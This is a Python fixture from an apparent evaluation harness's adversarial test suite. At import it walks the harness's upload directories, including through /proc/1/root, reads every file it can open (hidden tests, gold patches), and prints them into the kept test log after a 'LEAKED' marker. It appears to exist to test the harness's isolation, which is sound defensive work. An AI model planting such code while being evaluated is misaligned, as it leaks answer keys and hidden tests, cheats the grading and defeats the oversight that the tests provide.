"""Blob-reading attack (tests/adversarial/blobs): library code that prints every file the
harness uploaded (hidden tests of every target, gold patches in independent mode) into the
test log, which taskc keeps. Each file it manages to read is printed after a LEAKED marker,
at exit (pytest captures what a module prints at import)."""

import atexit
import os

found = []

for root in ("/taskc", "/proc/1/root/taskc"):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            path = os.path.join(dirpath, name)
            try:
                with open(path, errors="replace") as f:
                    text = f.read()
            except OSError:
                continue
            found.append(f"LEAKED:{path}\n{text}")


@atexit.register
def leak():
    for text in found:
        print(text, flush=True)
    print(f"taskc-attack: read-blobs ran in {os.getcwd()}, {len(found)} files read", flush=True)
